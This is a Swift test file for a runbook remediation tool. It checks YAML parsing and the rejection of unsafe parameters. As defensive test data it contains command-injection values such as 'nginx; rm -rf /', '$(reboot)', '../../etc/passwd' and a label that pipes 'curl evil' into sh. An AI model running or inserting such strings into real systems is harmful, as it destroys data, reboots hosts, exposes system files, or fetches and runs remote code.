import Foundation
import Testing
@testable import VigilCore
import VigilWire

/// The repository's `runbooks/` directory.
let shippedRunbooks = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
    .appendingPathComponent("runbooks").path

/// The shipped runbooks, parsed once: two dozen tests use them, and parsing them takes a debug build a while.
func builtInCatalog() -> RunbookCatalog { parsedBuiltInCatalog }

private let parsedBuiltInCatalog = RunbookCatalog.load(builtInDirectory: shippedRunbooks, userDirectory: nil)

struct RunbookFormatTests {
    @Test func theSixBuiltInsParse() throws {
        let c = builtInCatalog()
        #expect(c.errors.isEmpty, "\(c.errors)")
        #expect(c.runbooks.map(\.name) == ["connection_reset", "disk_cleanup", "log_rotation", "memory_pressure", "service_restart", "zombie_killer"])
        for rb in c.runbooks {
            #expect(rb.builtIn)
            #expect(rb.hash.count == 64)
            #expect(rb.steps.contains { $0.kind == .action }, "\(rb.name) has an action")
        }
        #expect(c.runbook(named: "connection_reset")?.risk == .high)
        #expect(c.matching(alertName: "DiskSpaceLow", labels: ["mount": "/"]).map(\.name) == ["disk_cleanup"])
        #expect(c.matching(alertName: "DiskSpaceLow", labels: ["mount": "/var/log"]).map(\.name) == ["log_rotation", "disk_cleanup"])
    }

    static func parse(_ yaml: String) -> Result<Runbook, RuleFileErrors> {
        RunbookCatalog.parse(yaml, path: "rb.yaml", builtIn: false)
    }

    @Test func aShellStringIsRefusedWithItsPosition() {
        let r = Self.parse("""
            name: bad
            risk: low
            steps:
              - name: oops
                kind: action
                run: "rm -rf /tmp/x"
            """)
        guard case .failure(let e) = r else { Issue.record("parsed"); return }
        #expect(e.errors.first?.line == 6)
        #expect(e.errors.first?.message.contains("never shell strings") == true)
    }

    @Test func everyErrorIsNamedWithLineAndColumn() {
        let r = Self.parse("""
            name: Bad-Name
            risk: extreme
            role: viewer
            parameters:
              - name: unit
                type: service
            steps:
              - name: go
                kind: explode
                run: [systemctl, restart, "{{nope}}"]
                timeout: 2h
            """)
        guard case .failure(let e) = r else { Issue.record("parsed"); return }
        let text = e.errors.map(\.description).joined(separator: "\n")
        #expect(text.contains("rb.yaml:1:7: bad runbook name 'Bad-Name'"))
        #expect(text.contains("rb.yaml:2:7: unknown risk 'extreme'"))
        #expect(text.contains("rb.yaml:3:7: role 'viewer' cannot run runbooks"))
        #expect(text.contains("rb.yaml:6:11: unknown type 'service'"))
        #expect(text.contains("rb.yaml:9:11: unknown step kind 'explode'"))
        #expect(text.contains("unknown placeholder '{{nope}}'"))
        #expect(text.contains("program 'systemctl' must be an absolute path"))
        #expect(text.contains("timeout 2h is too long"))
    }

    @Test func theProgramCannotComeFromAParameter() {
        let r = Self.parse("""
            name: sneaky
            risk: low
            parameters: [{name: prog, type: path}]
            steps:
              - {name: go, kind: action, run: ["{{prog}}", x]}
            """)
        guard case .failure(let e) = r else { Issue.record("parsed"); return }
        #expect(e.errors.contains { $0.message.contains("must be an absolute path or vigil-step") })
    }

    @Test func aListParameterNeedsTheFlagForm() {
        let r = Self.parse("""
            name: lists
            risk: low
            parameters: [{name: dirs, type: paths}]
            steps:
              - {name: go, kind: action, run: [vigil-step, disk-cleanup, "{{dirs}}"]}
            """)
        guard case .failure(let e) = r else { Issue.record("parsed"); return }
        #expect(e.errors.contains { $0.message.contains("must be passed with {flag: …, value: dirs}") })
    }
}

struct RunbookRendererTests {
    let catalog = builtInCatalog()

    @Test func defaultsLabelsAndExplicitValuesResolveInOrder() throws {
        let rb = try #require(catalog.runbook(named: "disk_cleanup"))
        let v = try RunbookRenderer.resolve(rb, explicit: ["older_than_days": "3"], fromRule: ["larger_than_mb": "50"], labels: ["mount": "/var"])
        #expect(v["older_than_days"] == "3")
        #expect(v["larger_than_mb"] == "50")
        #expect(v["mount"] == "/var")
        #expect(v["journal_max_size"] == "500M")
        let steps = RunbookRenderer.render(rb, values: v, host: "web-1")
        #expect(steps[1].argv == ["vigil-step", "disk-cleanup", "--older-than-days", "3", "--larger-than-mb", "50", "--journal-max-size", "500M"])
        #expect(steps[2].argv == ["vigil-step", "disk-usage", "--path", "/var", "--max-percent", "90"])
    }

    @Test func aListParameterBecomesOneFlagPerItemAndEmptyOptionalFlagsVanish() throws {
        let rb = try #require(catalog.runbook(named: "disk_cleanup"))
        let v = try RunbookRenderer.resolve(rb, explicit: ["dirs": "/tmp,/var/tmp", "journal_max_size": ""])
        let steps = RunbookRenderer.render(rb, values: v, host: "h")
        #expect(steps[1].argv == ["vigil-step", "disk-cleanup", "--dir", "/tmp", "--dir", "/var/tmp", "--older-than-days", "7"])
    }

    @Test func ruleParametersMayTakeAlertLabels() throws {
        let rb = try #require(catalog.runbook(named: "service_restart"))
        let v = try RunbookRenderer.resolve(rb, explicit: [:], fromRule: ["unit": "{{labels.service}}.service"], labels: ["service": "nginx"])
        #expect(v["unit"] == "nginx.service")
        #expect(throws: RunbookParameterError.self) {
            _ = try RunbookRenderer.resolve(rb, explicit: [:], fromRule: ["unit": "{{host}}"], labels: [:])
        }
    }

    @Test(arguments: [
        ("unit", "nginx; rm -rf /"),
        ("unit", "$(reboot)"),
        ("unit", "nginx\nrm"),
        ("unit", "-H"),
        ("unit", "../../etc/passwd"),
        ("health_url", "http://x/$(id)"),
        ("health_url", "http://x/`id`"),
        ("timeout_seconds", "5; reboot"),
        ("timeout_seconds", "100000"),
    ])
    func injectionAttemptsAreRejectedNamingTheParameter(name: String, value: String) throws {
        let rb = try #require(catalog.runbook(named: "service_restart"))
        var explicit = ["unit": "nginx.service"]
        explicit[name] = value
        do {
            _ = try RunbookRenderer.resolve(rb, explicit: explicit)
            Issue.record("\(name)=\(value) was accepted")
        } catch {
            #expect(error.parameter == name)
        }
    }

    @Test(arguments: ["../etc", "/tmp/../etc", "/tmp/x\ny", "tmp", "/tmp/$(id)", "/tmp/a b"])
    func badPathsAreRejected(path: String) throws {
        let rb = try #require(catalog.runbook(named: "disk_cleanup"))
        #expect(throws: RunbookParameterError.self) { _ = try RunbookRenderer.resolve(rb, explicit: ["dirs": path]) }
    }

    @Test func aHostileLabelNeverReachesAnArgument() throws {
        let rb = try #require(catalog.runbook(named: "service_restart"))
        // from_label: unit
        #expect(throws: RunbookParameterError.self) {
            _ = try RunbookRenderer.resolve(rb, explicit: [:], labels: ["unit": "nginx.service; curl evil | sh"])
        }
        #expect(throws: RunbookParameterError.self) { _ = try RunbookRenderer.resolve(rb, explicit: [:]) }   // required
    }

    @Test func unknownExplicitParametersAreErrors() throws {
        let rb = try #require(catalog.runbook(named: "zombie_killer"))
        #expect(throws: RunbookParameterError.self) { _ = try RunbookRenderer.resolve(rb, explicit: ["force": "true"]) }
    }
}

struct RuleRemediationTests {
    @Test func aRuleNamesItsRunbookModeAndParameters() throws {
        let file = try RuleFile.parse(yaml: """
            groups:
              - name: g
                rules:
                  - alert: DiskSpaceLow
                    kind: threshold
                    expr: {metric: disk.used_percent, op: ">", threshold: 85}
                    remediation:
                      runbook: disk_cleanup
                      mode: approve
                      params: {older_than_days: "3", mount: "{{labels.mount}}"}
            """, path: "r.yaml")
        let r = try #require(file.rules.first?.remediation)
        #expect(r == RuleRemediation(runbook: "disk_cleanup", mode: .approve, parameters: ["older_than_days": "3", "mount": "{{labels.mount}}"]))
    }

    @Test func aBadModeOrRunbookNameIsAnError() {
        do {
            _ = try RuleFile.parse(yaml: """
                groups:
                  - name: g
                    rules:
                      - alert: X
                        kind: threshold
                        expr: {metric: m, op: ">", threshold: 1}
                        remediation: {runbook: "Rm -rf", mode: yolo}
                """, path: "r.yaml")
            Issue.record("parsed")
        } catch {
            let text = error.errors.map(\.description).joined(separator: "\n")
            #expect(text.contains("unknown mode 'yolo' (expected auto, approve or manual)"))
            #expect(text.contains("bad runbook name 'Rm -rf'"))
        }
    }
}
